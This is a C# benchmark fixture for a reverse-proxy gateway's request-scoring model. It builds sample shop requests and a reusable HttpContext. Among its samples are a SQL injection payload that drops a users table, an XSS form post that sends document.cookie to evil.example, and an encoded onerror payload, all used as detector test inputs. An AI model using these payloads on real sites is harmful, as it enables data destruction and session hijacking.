using System.Net;
using System.Text;
using Gateway.Scoring.Content;
using Microsoft.AspNetCore.Http;
using Microsoft.AspNetCore.Http.Features;
using Yarp.ReverseProxy.Configuration;
using Yarp.ReverseProxy.Forwarder;
using Yarp.ReverseProxy.Model;

namespace Gateway.Benchmarks;

/// <summary>
/// Requests in the shape of the CSIC 2010 shop traffic the model was trained on (hand-written here,
/// so the benchmarks need no dataset): ordinary browsing, a form post, and the attacks the content
/// signal exists for.
/// </summary>
internal static class RepresentativeRequests
{
    public const string Form = "application/x-www-form-urlencoded";

    public static readonly Sample BenignGet = new("GET",
        "/tienda1/publico/anadir.jsp?id=3&nombre=Queso+Manchego&precio=39&cantidad=18&B1=A%F1adir+al+carrito", null, null);

    public static readonly Sample BenignPost = new("POST", "/tienda1/publico/registro.jsp",
        "modo=registro&login=beltran&password=fr3sno%21&nombre=Beltran&apellidos=Garcia+Lopez&email=beltran%40example.com"
        + "&dni=12345678Z&direccion=Calle+Mayor+12&ciudad=Madrid&cp=28013&provincia=Madrid&ntc=4567123498761234&B1=Registrar", Form);

    public static readonly Sample SqlInjection = new("GET",
        "/tienda1/publico/anadir.jsp?id=2&nombre=Jam%F3n+Ib%E9rico&precio=85&cantidad=%27%3B+DROP+TABLE+usuarios%3B+SELECT+*+FROM+datos+WHERE+nombre+LIKE+%27%25&B1=A%F1adir+al+carrito",
        null, null);

    public static readonly Sample XssPost = new("POST", "/tienda1/publico/caracteristicas.jsp",
        "id=2&nombre=%3Cscript%3Edocument.location%3D%27http%3A%2F%2Fevil.example%2F%3Fc%3D%27%2Bdocument.cookie%3C%2Fscript%3E&B1=Enviar", Form);

    /// <summary>A large, heavily encoded body: the extractor's worst ordinary case (the body prefix is capped at 8 KiB).</summary>
    public static readonly Sample LargeEncodedPost = new("POST", "/tienda1/miembros/editar.jsp",
        string.Concat(Enumerable.Repeat("comentario=%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E%2520texto+largo+", 80)), Form);

    public static RequestContent Content(Sample sample) =>
        new(sample.Method, sample.Target, sample.Body is null ? ReadOnlyMemory<byte>.Empty : Encoding.ASCII.GetBytes(sample.Body), sample.ContentType);

    internal sealed record Sample(string Method, string Target, string? Body, string? ContentType);

    /// <summary>
    /// A request as Kestrel hands it over: from a loopback proxy with X-Forwarded-For, raw target
    /// set. Reusable: <see cref="Reset"/> rewinds the body and restores what the evaluator replaced.
    /// </summary>
    internal sealed class ReusableContext
    {
        private readonly byte[] _body;
        private readonly MemoryStream _bodyStream;

        public ReusableContext(Sample sample, string clientIp)
        {
            _body = sample.Body is null ? [] : Encoding.ASCII.GetBytes(sample.Body);
            _bodyStream = new MemoryStream(_body, writable: false);
            Context = new DefaultHttpContext();
            var request = Context.Request;
            request.Method = sample.Method;
            var query = sample.Target.IndexOf('?');
            request.Path = PathString.FromUriComponent(query < 0 ? sample.Target : sample.Target[..query]);
            request.QueryString = query < 0 ? QueryString.Empty : new QueryString(sample.Target[query..]);
            Context.Features.Get<IHttpRequestFeature>()!.RawTarget = sample.Target;
            Context.Connection.RemoteIpAddress = IPAddress.Loopback;
            request.Headers["X-Forwarded-For"] = clientIp;
            request.Headers.Host = "shop.example";
            if (sample.ContentType is not null)
            {
                request.ContentType = sample.ContentType;
                request.ContentLength = _body.Length;
            }
            Reset();
        }

        public HttpContext Context { get; }

        /// <summary>
        /// Marks the request as matched to a catch-all YARP route, as the proxy's routing does before the
        /// protection middleware runs (the login defence reads the route's metadata on every POST).
        /// </summary>
        public ReusableContext OnRoute()
        {
            var route = new RouteConfig { RouteId = "app", ClusterId = "app", Match = new RouteMatch { Path = "{**catch-all}" } };
            Context.Features.Set<IReverseProxyFeature>(new ReverseProxyFeature
            {
                Route = new RouteModel(route, cluster: null, HttpTransformer.Empty),
            });
            return this;
        }

        public void Reset(string? clientIp = null)
        {
            _bodyStream.Position = 0;
            Context.Request.Body = _bodyStream;
            if (clientIp is not null)
            {
                Context.Request.Headers["X-Forwarded-For"] = clientIp;
            }
        }
    }
}
